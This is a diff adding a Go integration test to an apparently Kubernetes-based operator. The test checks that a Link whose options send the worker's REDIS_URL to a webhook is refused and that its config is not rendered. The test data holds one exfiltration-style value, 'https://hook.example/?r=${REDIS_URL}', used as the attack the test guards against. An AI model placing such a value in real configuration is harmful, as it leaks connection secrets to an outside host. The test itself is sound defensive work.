@@ -228,3 +228,64 @@ func TestIngressConflictNormalised(t *testing.T) {
 		t.Errorf("the message names the other namespace's Chain: %s", cond.Message)
 	}
 }
+
+// TestEnvReferenceRefused: a Link whose options read a variable its own
+// Secret references do not provide (here the worker's REDIS_URL, sent to a
+// webhook) is refused with the option and the variable named, and its
+// config is not rendered: a running Chain keeps its last good ConfigMap.
+func TestEnvReferenceRefused(t *testing.T) {
+	op := startOperator(t)
+	ctx := context.Background()
+	op.create(t, tagLink("hook", `{"tags":["ok"]}`), op.chain("leaky", []string{"leaky-in"}, func(c *vconv1.Chain) { c.Spec.Links = []string{"hook"} }))
+	op.waitChain(t, "leaky", "Ready", ready)
+	var cm corev1.ConfigMap
+	if err := op.c.Get(ctx, op.key(workload.ConfigMapName("leaky")), &cm); err != nil {
+		t.Fatal(err)
+	}
+	good := cm.Data[workload.ConfigKey]
+
+	var l vconv1.Link
+	if err := op.c.Get(ctx, op.key("hook"), &l); err != nil {
+		t.Fatal(err)
+	}
+	l.Spec.Options.Raw = []byte(`{"tags":["https://hook.example/?r=${REDIS_URL}"]}`)
+	if err := op.c.Update(ctx, &l); err != nil {
+		t.Fatal(err)
+	}
+	op.waitChain(t, "leaky", "EnvReferenceNotAllowed", hasCondition(controllers.ConditionReady, metav1.ConditionFalse, controllers.ReasonEnvReferenceNotAllowed,
+		"link hook", "options.tags[0]", "${REDIS_URL}"))
+	if err := op.c.Get(ctx, op.key(workload.ConfigMapName("leaky")), &cm); err != nil {
+		t.Fatal(err)
+	}
+	if cm.Data[workload.ConfigKey] != good {
+		t.Errorf("the refused config was rendered:\n%s", cm.Data[workload.ConfigKey])
+	}
+
+	// Declared from its own Secret, the same name is the Link's own
+	// variable, not the worker's.
+	l.Spec.Env = []vconv1.SecretEnv{{Name: "REDIS_URL", SecretKeyRef: corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "hook"}, Key: "r"}}}
+	var fresh vconv1.Link
+	if err := op.c.Get(ctx, op.key("hook"), &fresh); err != nil {
+		t.Fatal(err)
+	}
+	fresh.Spec.Env = l.Spec.Env
+	if err := op.c.Update(ctx, &fresh); err != nil {
+		t.Fatal(err)
+	}
+	op.waitChain(t, "leaky", "Ready", ready)
+	op.waitDeployment(t, "leaky", "the Link's own variable", func(d *appsv1.Deployment) error {
+		n := 0
+		for _, e := range d.Spec.Template.Spec.Containers[0].Env {
+			if e.Name == "REDIS_URL" {
+				n++
+			}
+		}
+		if n != 1 {
+			return fmt.Errorf("%d REDIS_URL variables", n)
+		}
+		if !strings.Contains(fmt.Sprint(d.Spec.Template.Spec.Containers[0].Env), workload.StepEnvName("link", "hook", "REDIS_URL")) {
+			return fmt.Errorf("env %v lacks the Link's variable", d.Spec.Template.Spec.Containers[0].Env)
+		}
+		return nil
+	})
+}
